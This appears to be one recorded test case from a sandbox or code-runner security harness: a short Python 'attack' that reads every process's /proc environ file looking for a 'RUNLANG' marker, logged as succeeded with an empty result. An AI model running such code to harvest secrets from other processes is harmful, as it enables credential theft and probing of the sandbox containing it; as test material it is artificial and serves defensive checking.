# attack: looks for secrets in the environment of every process
# status: succeeded
# stdout@2: []
import os
got = []
for p in filter(str.isdigit, os.listdir("/proc")):
    try:
        if b"RUNLANG" in open(f"/proc/{p}/environ", "rb").read(): got.append(p)
    except OSError: pass
print(got)
